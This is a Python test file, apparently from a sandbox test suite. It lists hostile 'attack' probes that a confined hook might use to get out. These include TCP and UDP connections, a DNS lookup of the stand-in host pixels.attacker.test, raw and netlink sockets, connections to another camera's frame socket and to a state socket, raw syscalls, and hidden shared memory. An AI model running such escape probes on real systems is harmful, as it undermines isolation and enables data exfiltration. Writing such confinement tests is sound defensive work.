"""Ways out: the network, sockets of every kind, shared memory."""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import struct

from tests.hooks.hostile.tools import TARGETS, attack, control, raw


@attack
def connect_by_tcp() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", TARGETS["port"]))
        return one.send(b"pixels")


@attack
def connect_through_its_warden() -> object:
    with socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2) as one:
        return one.send(b"pixels")


@attack
def send_by_udp() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"pixels", ("127.0.0.1", TARGETS["udp_port"]))


@attack
def ask_a_name_server() -> object:
    return socket.getaddrinfo("pixels.attacker.test", 443, flags=0) or "asked"


@attack
def open_a_raw_socket() -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno()


@attack
def open_a_packet_socket() -> object:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno()


@attack
def open_a_netlink_socket() -> object:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).fileno()


@attack
def listen_on_a_port() -> object:
    return socket.create_server(("127.0.0.1", 0)).getsockname()


@attack
def connect_to_another_cameras_pictures() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as one:
        one.settimeout(2)
        one.connect(TARGETS["frames"])
        return "connected"


@attack
def connect_to_the_state_socket() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.connect(TARGETS["state_socket"])
        return "connected"


@attack
def ring_the_journals_bell() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        return one.sendto(b"pixels", TARGETS["bell"])


@attack
def send_to_a_name_from_a_pair() -> object:
    """A pair of datagram sockets may send to any socket that has a name."""
    one, _two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b"pixels", TARGETS["bell"])


@attack
def connect_one_of_a_pair() -> object:
    one, _two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(TARGETS["bell"])
    return one.send(b"pixels")


@attack
def send_to_an_abstract_socket() -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        return one.sendto(b"pixels", TARGETS["abstract"])


@attack
def make_a_socket_by_number() -> object:
    return raw(41, 198, socket.AF_INET, socket.SOCK_STREAM, 0)


@attack
def connect_a_descriptor_it_was_given() -> object:
    """The sockets it has are pairs; they can be connected to nothing else."""
    address = struct.pack("=H", socket.AF_UNIX) + TARGETS["state_socket"].encode() + b"\0"
    return raw(42, 203, control().fileno(), address, len(address))


@attack
def ask_for_the_interfaces() -> object:
    import fcntl

    pair = socket.socketpair()[0]
    return fcntl.ioctl(pair, 0x8912, struct.pack("iL", 0, 0)) and "answered"


@attack
def attach_a_filter_to_a_socket() -> object:
    pair = socket.socketpair()[0]
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF))
    pair.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HL", 1, ctypes.addressof(code)))
    return "attached"


@attack
def make_shared_memory_with_a_name() -> object:
    descriptor = os.open("/dev/shm/planted-by-a-hook", os.O_CREAT | os.O_RDWR, 0o600)
    os.unlink("/dev/shm/planted-by-a-hook")
    return descriptor


@attack
def make_memory_without_a_name() -> object:
    return os.memfd_create("planted")


@attack
def share_memory_with_nobody() -> object:
    """Memory that no limit counts."""
    return len(mmap.mmap(-1, 1 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))


@attack
def make_system_v_memory() -> object:
    number = raw(29, 194, 0x76656474, 4096, 0o1600)
    raw(31, 195, number, 0, None)
    return number


@attack
def make_a_system_v_queue() -> object:
    number = raw(68, 186, 0x76656474, 0o1600)
    raw(71, 187, number, 0, None)
    return number


@attack
def make_a_message_queue() -> object:
    number = raw(240, 180, b"planted", os.O_CREAT | os.O_RDWR, 0o600, None)
    raw(241, 181, b"planted")
    return number
